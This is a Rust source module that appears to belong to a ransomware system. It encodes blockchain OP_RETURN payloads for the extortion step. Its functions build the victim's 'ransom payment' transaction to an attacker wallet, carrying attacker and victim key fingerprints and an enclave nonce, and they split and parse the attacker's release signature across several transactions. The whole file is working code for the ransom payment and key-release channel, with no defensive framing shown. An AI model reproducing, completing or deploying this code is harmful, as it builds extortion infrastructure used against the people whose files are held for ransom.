//! OP_RETURN payloads.
//!
//! ```text
//! metadata        'P' | ak_fp:20 | vk_fp:20 | nonce:32                 (73 bytes)
//! signature part  'S' | vk_fp:20 | index:u8 | count:u8 | sig bytes    (<= 80 bytes)
//! ```
//!
//! A 2048-bit signature is 256 bytes; at 57 bytes per part it spans five
//! transactions.

use super::ReleaseError;
use crate::chainkit::{build_payment_tx, Address, ChainError, Transaction, MAX_OP_RETURN};
use crate::enclave::NONCE_LEN;
use crate::keys::{AttackerPublicKey, Fingerprint, VictimPublicKey, FINGERPRINT_LEN};

pub const METADATA_TAG: u8 = b'P';
pub const SIG_PART_TAG: u8 = b'S';
pub const METADATA_LEN: usize = 1 + 2 * FINGERPRINT_LEN + NONCE_LEN;
pub const SIG_PART_HEADER: usize = 1 + FINGERPRINT_LEN + 2;
pub const SIG_PART_MAX: usize = MAX_OP_RETURN - SIG_PART_HEADER;

/// What the victim attaches to the ransom payment.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct ReleaseMetadata {
    pub ak_fp: Fingerprint,
    pub vk_fp: Fingerprint,
    pub nonce: [u8; NONCE_LEN],
}

impl ReleaseMetadata {
    pub fn new(ak: &AttackerPublicKey, vk: &VictimPublicKey, nonce: [u8; NONCE_LEN]) -> Self {
        ReleaseMetadata { ak_fp: ak.fingerprint(), vk_fp: vk.fingerprint(), nonce }
    }

    pub fn serialize(&self) -> [u8; METADATA_LEN] {
        let mut out = [0u8; METADATA_LEN];
        out[0] = METADATA_TAG;
        out[1..21].copy_from_slice(&self.ak_fp);
        out[21..41].copy_from_slice(&self.vk_fp);
        out[41..].copy_from_slice(&self.nonce);
        out
    }

    pub fn parse(payload: &[u8]) -> Option<Self> {
        if payload.len() != METADATA_LEN || payload[0] != METADATA_TAG {
            return None;
        }
        Some(ReleaseMetadata {
            ak_fp: payload[1..21].try_into().unwrap(),
            vk_fp: payload[21..41].try_into().unwrap(),
            nonce: payload[41..].try_into().unwrap(),
        })
    }
}

/// The ransom payment: `amount` to `wallet` with the metadata attached.
pub fn build_payment(wallet: Address, amount: u64, md: &ReleaseMetadata) -> Result<Transaction, ChainError> {
    build_payment_tx(wallet, amount, &md.serialize())
}

/// Splits a signature into OP_RETURN payloads addressed to `vk_fp`.
pub fn signature_parts(signature: &[u8], vk_fp: &Fingerprint) -> Result<Vec<Vec<u8>>, ReleaseError> {
    let count = signature.len().div_ceil(SIG_PART_MAX);
    if signature.is_empty() || count > u8::MAX as usize {
        return Err(ReleaseError::SignatureTooLarge(signature.len()));
    }
    Ok(signature
        .chunks(SIG_PART_MAX)
        .enumerate()
        .map(|(i, piece)| {
            let mut p = Vec::with_capacity(SIG_PART_HEADER + piece.len());
            p.push(SIG_PART_TAG);
            p.extend_from_slice(vk_fp);
            p.push(i as u8);
            p.push(count as u8);
            p.extend_from_slice(piece);
            p
        })
        .collect())
}

/// `(vk_fp, index, count, bytes)` of a signature part.
pub(crate) fn parse_signature_part(payload: &[u8]) -> Option<(Fingerprint, u8, u8, &[u8])> {
    if payload.len() <= SIG_PART_HEADER || payload[0] != SIG_PART_TAG {
        return None;
    }
    let fp = payload[1..21].try_into().unwrap();
    let (index, count) = (payload[21], payload[22]);
    (index < count).then_some((fp, index, count, &payload[SIG_PART_HEADER..]))
}
